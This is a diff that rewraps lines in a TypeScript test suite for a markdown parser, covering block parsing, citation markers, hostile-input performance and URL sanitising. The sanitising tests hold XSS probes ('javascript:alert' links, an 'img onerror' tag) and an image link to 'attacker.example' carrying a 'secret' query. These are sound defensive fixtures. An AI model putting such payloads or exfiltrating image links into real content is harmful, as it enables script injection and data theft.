@@ -7,10 +7,27 @@ describe('markdown parser', () => {
     const blocks = parseBlocks(
       '# Title\n\nSome *em* and **strong** and `code`.\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```ts\nconst a = 1;\n```\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n---',
     );
-    expect(blocks.map((b) => b.t)).to.deep.equal(['h', 'p', 'list', 'list', 'quote', 'code', 'table', 'hr']);
+    expect(blocks.map((b) => b.t)).to.deep.equal([
+      'h',
+      'p',
+      'list',
+      'list',
+      'quote',
+      'code',
+      'table',
+      'hr',
+    ]);
     expect(blocks[1]).to.deep.equal({
       t: 'p',
-      inline: ['Some ', { t: 'em', children: ['em'] }, ' and ', { t: 'strong', children: ['strong'] }, ' and ', { t: 'code', text: 'code' }, '.'],
+      inline: [
+        'Some ',
+        { t: 'em', children: ['em'] },
+        ' and ',
+        { t: 'strong', children: ['strong'] },
+        ' and ',
+        { t: 'code', text: 'code' },
+        '.',
+      ],
     });
     const list = blocks[2] as { items: { t: string }[][] };
     expect(list.items).to.have.length(2);
@@ -27,9 +44,13 @@ describe('markdown parser', () => {
     expect(safeUrl('/relative')).to.equal(null);
     expect(safeUrl(' https://example.com/a b ')).to.equal('https://example.com/a%20b');
     expect(safeUrl('https://example.com/?q=1')).to.equal('https://example.com/?q=1');
-    expect(parseInline('[x](javascript:alert%281%29)')).to.deep.equal([{ t: 'link', href: null, children: ['x'] }]);
+    expect(parseInline('[x](javascript:alert%281%29)')).to.deep.equal([
+      { t: 'link', href: null, children: ['x'] },
+    ]);
     expect(parseInline('[x](javascript:alert(1))')).to.deep.equal(['[x](javascript:alert(1))']);
-    expect(parseInline('<img src=x onerror=alert(1)>')).to.deep.equal(['<img src=x onerror=alert(1)>']);
+    expect(parseInline('<img src=x onerror=alert(1)>')).to.deep.equal([
+      '<img src=x onerror=alert(1)>',
+    ]);
     expect(parseInline('![secret](https://attacker.example/?q=secret)')).to.deep.equal([
       { t: 'image', alt: 'secret', href: 'https://attacker.example/?q=secret' },
     ]);
@@ -46,18 +67,40 @@ describe('markdown parser', () => {
   });
 
   it('reads [N] as a citation, but not in code, in a link, in a reference or escaped', () => {
-    const cites = (src: string) => parseInline(src).flatMap((node) => (typeof node === 'object' && node.t === 'cite' ? [node.n] : []));
-    expect(parseInline('grew [1], cloud [2][3].')).to.deep.equal(['grew ', { t: 'cite', n: 1 }, ', cloud ', { t: 'cite', n: 2 }, { t: 'cite', n: 3 }, '.']);
+    const cites = (src: string) =>
+      parseInline(src).flatMap((node) =>
+        typeof node === 'object' && node.t === 'cite' ? [node.n] : [],
+      );
+    expect(parseInline('grew [1], cloud [2][3].')).to.deep.equal([
+      'grew ',
+      { t: 'cite', n: 1 },
+      ', cloud ',
+      { t: 'cite', n: 2 },
+      { t: 'cite', n: 3 },
+      '.',
+    ]);
     expect(cites('as noted in [2]: more\n[4]')).to.deep.equal([2, 4]);
-    expect(parseInline('[1](https://example.com/)')).to.deep.equal([{ t: 'link', href: 'https://example.com/', children: ['1'] }]);
-    expect(parseInline('`[1]` [text][1] [1][] \\[2] [0] [1234]')).to.deep.equal([{ t: 'code', text: '[1]' }, ' [text][1] [1][] [2] [0] [1234]']);
+    expect(parseInline('[1](https://example.com/)')).to.deep.equal([
+      { t: 'link', href: 'https://example.com/', children: ['1'] },
+    ]);
+    expect(parseInline('`[1]` [text][1] [1][] \\[2] [0] [1234]')).to.deep.equal([
+      { t: 'code', text: '[1]' },
+      ' [text][1] [1][] [2] [0] [1234]',
+    ]);
     expect(cites('[1]: https://example.com/\n[2]: https://example.com/b')).to.deep.equal([]);
     expect(cites('[1](not a url)')).to.deep.equal([]);
   });
 
   it('stays linear on hostile input', () => {
     const start = performance.now();
-    parseBlocks('*'.repeat(50_000) + '['.repeat(20_000) + '`'.repeat(20_000) + '[1]'.repeat(20_000) + '(' + '[1]['.repeat(20_000));
+    parseBlocks(
+      '*'.repeat(50_000) +
+        '['.repeat(20_000) +
+        '`'.repeat(20_000) +
+        '[1]'.repeat(20_000) +
+        '(' +
+        '[1]['.repeat(20_000),
+    );
     expect(performance.now() - start).to.be.below(2_000);
   });
 
@@ -86,7 +129,9 @@ describe('markdown parser', () => {
         const text = lines.join('\n');
         const prefix = text.slice(0, cut % (text.length + 1));
         const settled = settledLength(prefix);
-        expect(parseBlocks(text.slice(0, settled)).concat(parseBlocks(text.slice(settled)))).to.deep.equal(parseBlocks(text));
+        expect(
+          parseBlocks(text.slice(0, settled)).concat(parseBlocks(text.slice(settled))),
+        ).to.deep.equal(parseBlocks(text));
         expect(settledLength(prefix, settledLength(prefix.slice(0, settled)))).to.equal(settled);
       }),
       { numRuns: 500 },
